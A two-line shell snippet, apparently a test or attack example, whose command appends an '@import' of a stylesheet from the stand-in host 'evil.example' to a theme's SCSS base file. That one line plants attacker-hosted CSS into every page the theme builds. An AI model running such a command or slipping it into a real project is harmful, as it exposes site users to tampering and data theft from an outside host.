# a style from another host
printf '@import "http://evil.example/x.css";\n' >>themes/default/scss/_base.scss
